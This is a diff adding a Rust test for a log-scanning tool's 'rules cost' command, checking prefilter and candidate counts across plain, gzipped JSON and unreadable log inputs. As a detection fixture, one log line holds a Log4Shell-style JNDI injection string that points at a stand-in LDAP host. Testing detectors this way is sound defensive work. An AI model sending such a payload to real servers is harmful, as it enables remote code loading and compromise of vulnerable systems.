@@ -623,6 +623,71 @@ fn rules_list_and_check() {
 }
 
 #[test]
+fn rules_cost_counts_what_gets_past_the_prefilter() {
+    let dir = tempfile::tempdir().unwrap();
+    let benign =
+        "10.0.0.1 - - [27/Nov/2026:14:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 512 \"-\" \"curl/8.0\"\n";
+    let attack = "10.9.8.7 - - [27/Nov/2026:14:00:01 +0000] \"GET /?x=${jndi:ldap://cb.example/a} HTTP/1.1\" 200 1 \"-\" \"-\"\n";
+    let mut plain = benign.repeat(2000);
+    plain.push_str(attack);
+    plain.push_str(&benign.repeat(2000));
+    // The same log as a json-file log, gzipped.
+    let json: String = plain
+        .lines()
+        .map(|l| {
+            format!(
+                "{{\"log\":\"{}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:00Z\"}}\n",
+                l.replace('"', "\\\"")
+            )
+        })
+        .collect();
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    std::io::Write::write_all(&mut gz, json.as_bytes()).unwrap();
+    write_files(
+        dir.path(),
+        &[("access.log", plain.as_bytes()), ("c-json.log.gz", &gz.finish().unwrap()), ("empty.log", b"")],
+    );
+    let p = |n: &str| dir.path().join(n).to_str().unwrap().to_string();
+    let missing = p("missing.log");
+    std::os::unix::fs::symlink("/dev/zero", dir.path().join("link.log")).unwrap();
+    let d = dir.path().to_str().unwrap();
+    let out = run(&[
+        "rules",
+        "cost",
+        &p("access.log"),
+        &p("c-json.log.gz"),
+        &p("empty.log"),
+        &missing,
+        &p("link.log"),
+        d,
+    ]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{text}{err}");
+    assert!(err.contains("missing.log: cannot read"), "{err}");
+    // A link (here to an endless device) is not followed, a directory not read.
+    assert!(err.contains("link.log: cannot read: not a regular file"), "{err}");
+    assert!(err.contains(&format!("{d}: cannot read: not a regular file")), "{err}");
+    let rows: Vec<Vec<&str>> = text.lines().skip(1).map(|l| l.split_whitespace().collect()).collect();
+    assert_eq!(rows.len(), 3, "{text}");
+    // framing, MiB, prefix/MiB, windows/MiB, candidates/MiB, hits, file
+    let num = |r: &[&str], i: usize| r[i].parse::<f64>().unwrap();
+    for (row, framing, name) in [(&rows[0], "text", "access.log"), (&rows[1], "json-file", "c-json.log.gz")] {
+        assert_eq!(row[0], framing, "{text}");
+        assert!(row[6].ends_with(name), "{text}");
+        // One candidate record in the whole log: the attack line (every window hit that is not
+        // a candidate is the prefilter's false alarm, and there are few of those).
+        let mib = num(row, 1);
+        let candidates = (num(row, 4) * mib).round();
+        assert!(candidates == 1.0 || (framing == "json-file" && candidates == 2.0), "{text}");
+        assert!(num(row, 3) >= num(row, 4) && num(row, 3) * mib < 50.0, "{text}");
+        assert!(num(row, 2) >= num(row, 3), "{text}");
+        assert!(num(row, 5) >= 1.0, "{text}");
+    }
+    assert_eq!(&rows[2][..6], ["text", "0.00", "0.0", "0.0", "0.0", "0"], "{text}");
+}
+
+#[test]
 fn bundle_without_logs_gives_empty_section() {
     let dir = tempfile::tempdir().unwrap();
     write_files(dir.path(), &[("notes.txt", b"nothing here\n")]);
